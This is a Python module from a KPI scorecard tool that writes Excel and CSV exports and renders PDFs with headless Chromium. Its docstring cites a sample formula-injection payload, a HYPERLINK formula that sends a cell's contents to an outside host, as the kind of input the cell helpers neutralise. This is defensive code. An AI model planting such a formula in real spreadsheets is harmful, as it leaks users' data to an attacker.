"""Exports people ask for: the scorecard as an Excel sheet laid out like the seed, the period summary
for HR systems, and PDF renderings of the reader's reports.

- `scorecard.xlsx` (per department, written with every run and re-written on sign-off):
  the seed's 13 Chinese column headers (English below them), one row per indicator with
  the collected result filled in, the weighted total, the grade, and the seed's
  signature line (部门经理签字 / 上级主管领导签字) with who signed and when.
- `summary.xlsx` (per period): one row per department, for import into HR systems.
- PDF: headless Chromium (Debian's `chromium` package) prints the reader's HTML; the
  HTML embeds its CJK font, so the PDF has real glyphs.

Spreadsheet formula injection (SPEC §9 "Spreadsheets"): a department name, a grade
label, a signer's name or a data value such as `=HYPERLINK("http://x/?"&A2)` must be
shown, never run. Every writer goes through the two helpers here:

- `xlsx_cell`: text becomes a string cell. openpyxl otherwise stores a str that
  starts with "=" as a formula and one that reads like an error code ("#N/A") as an
  error cell (`Cell._bind_value`); the value itself is kept unchanged, no quote added
  (a carriage return in it reads back as a line feed: XML's end-of-line rule).
- `csv_cell`: CSV has no cell types, so text that starts with `=`, `+`, `-`, `@`, tab
  or carriage return gets a leading `'` (OWASP's rule). Numbers (int, float, Decimal)
  are written as numbers, so `-1.41` keeps its sign and stays a number.

The xlsx bytes are reproducible: the document's created/modified properties and
every zip member's time come from `clock.now()` (`SOURCE_DATE_EPOCH` when set).
"""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter

from . import clock
from .errors import InternalError, SetupError
from .explain import grade_label
from .messages import both, say
from .result import DepartmentResult, json_number, json_real
from .sheet import SHEET_KEYS, headers, sheet_row
from .template import Template

ROLES = {"manager": "manager_sign", "supervisor": "supervisor_sign"}
THIN = Side(style="thin", color="999999")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
WRAP = Alignment(wrap_text=True, vertical="top")


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ZIP_EPOCH = datetime(1980, 1, 1)  # the earliest time a zip member can carry


# -- safe cells -----------------------------------------------------------------------------
def xlsx_cell(sheet: Worksheet, value: Any) -> Any:
    """`value` for `sheet.append`: text as a string cell (never a formula or an error cell), unchanged; anything else as it is."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # `append` moves it to its row and column
    cell.data_type = "s"
    return cell


def csv_cell(value: Any) -> Any:
    """`value` for `csv.writer`: numbers as they are, None as empty, text with a leading `'` when it starts like a formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text


def new_sheet(title: str) -> tuple[Workbook, Worksheet]:
    """A workbook and its one sheet, named `title`."""
    book = Workbook()
    sheet = book.active
    if not isinstance(sheet, Worksheet):
        raise InternalError("a new openpyxl workbook has no worksheet (please report it)")
    sheet.title = title
    return book, sheet


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    sheet.append([xlsx_cell(sheet, value) for value in values])


# -- reproducible bytes ---------------------------------------------------------------------
def workbook_bytes(book: Workbook, when: datetime | None = None) -> bytes:
    """The workbook as .xlsx bytes, dated `when` (naive UTC; default `clock.now()`) in its properties and its zip.

    `Workbook.save` would stamp `modified` with the wall clock, and `ZipFile.writestr`
    dates each member with it, so the workbook is written by openpyxl's `ExcelWriter`
    and its members are re-dated.
    """
    when = when or clock.utc_naive()
    book.properties.created = when
    book.properties.modified = when
    written = io.BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED, allowZip64=True) as archive:
        ExcelWriter(book, archive).write_data()
    date_time = max(when, ZIP_EPOCH).timetuple()[:6]
    dated = io.BytesIO()
    with (
        ZipFile(io.BytesIO(written.getvalue())) as source,
        ZipFile(dated, "w", ZIP_DEFLATED, allowZip64=True) as target,
    ):
        for member in source.infolist():
            info = ZipInfo(member.filename, date_time=date_time)
            info.compress_type = ZIP_DEFLATED
            info.external_attr = member.external_attr
            target.writestr(info, source.read(member))
    return dated.getvalue()


def scorecard_xlsx(
    template: Template,
    lang: str,
    title: str,
    result: DepartmentResult,
    labels: Mapping[str, str],
    signoffs: Sequence[Mapping[str, Any]] = (),
    when: datetime | None = None,
) -> bytes:
    """The filled-in KPI sheet as .xlsx bytes: the same rows as the scorecard notebook's (`sheet.sheet_row`)."""
    book, sheet = new_sheet("考核表")
    append_row(sheet, [title])
    sheet["A1"].font = Font(bold=True, size=14)
    names = headers()
    append_row(sheet, [zh for zh, _ in names])
    append_row(sheet, [en for _, en in names])
    for row in (2, 3):
        for cell in sheet[row]:
            cell.font = Font(bold=True)
            cell.fill = PatternFill("solid", fgColor="EEEEEE")
            cell.border = BOX
            cell.alignment = WRAP
    for item in result.indicators:
        filled = sheet_row(template, item, lang)
        values: list[Any] = list(filled.cells)
        values[SHEET_KEYS.index("weight")] = json_number(filled.weight)
        append_row(sheet, [*values, json_real(filled.score)])
        for cell in sheet[sheet.max_row]:
            cell.border = BOX
            cell.alignment = WRAP
        sheet.cell(row=sheet.max_row, column=len(values) + 1).number_format = "0.00"
    grade = result.grade or ""
    append_row(sheet, [])
    append_row(sheet, [" ".join(both("label.total")), json_real(result.total)])
    sheet.cell(row=sheet.max_row, column=2).number_format = "0.00"
    append_row(sheet, [" ".join(both("label.grade")), f"{grade} {grade_label(labels.get(grade, ''), lang)}".strip()])
    for row_number in (sheet.max_row - 1, sheet.max_row):
        sheet.cell(row=row_number, column=1).font = Font(bold=True)
    append_row(sheet, [])
    by_role = {s["role"]: s for s in signoffs}
    line = []
    for role, key in ROLES.items():
        signed = by_role.get(role)
        line += [
            f"{say(f'label.{key}', 'zh')}：",
            f"{signed['name']}  {signed['time']}" if signed else "________________",
        ]
    append_row(sheet, line)
    widths = [6, 36, 16, 7, 36, 12, 16, 14, 12, 36, 18, 10, 40, 8]
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    sheet.freeze_panes = "C4"
    return workbook_bytes(book, when)


CHROMIUM_HINT = "Chromium is not installed: run `make pdf-deps` (or `apt-get install chromium`) to make PDFs"


def chromium() -> str:
    """The headless browser's binary: Debian's `chromium` (or a Chrome of another name on PATH)."""
    for name in ("chromium", "chromium-browser", "google-chrome"):
        found = shutil.which(name)
        if found:
            return found
    raise SetupError(CHROMIUM_HINT)


def chromium_command(profile: Path, *args: str) -> list[str]:
    """A headless Chromium command that fetches nothing and keeps nothing: a throwaway profile, no sandbox (root)."""
    return [
        chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        f"--user-data-dir={profile}", *args,
    ]  # fmt: skip


def html_to_pdf(html: Path, pdf: Path, timeout: int = 120) -> None:
    """Print one HTML file to PDF with headless Chromium, laid out by the page's print stylesheet.

    The paper is the page's: Chromium's `--print-to-pdf` takes the size and margins of
    CSS `@page` (the reports' `kpi.css` asks for A4 landscape), and
    `--no-pdf-header-footer` leaves out the browser's date, title and URL lines.
    """
    pdf.parent.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as profile:
        tmp = pdf.with_name(f".{pdf.name}.tmp")
        command = chromium_command(
            Path(profile), "--no-pdf-header-footer", f"--print-to-pdf={tmp}", html.resolve().as_uri()
        )
        done = subprocess.run(command, capture_output=True, text=True, timeout=timeout, check=False)
        if done.returncode != 0 or not tmp.is_file():
            tmp.unlink(missing_ok=True)
            said = (done.stderr.strip().splitlines() or [f"exit code {done.returncode}, no message"])[-1]
            raise SetupError(f"{html}: Chromium could not print it to PDF: {said}")
        tmp.replace(pdf)
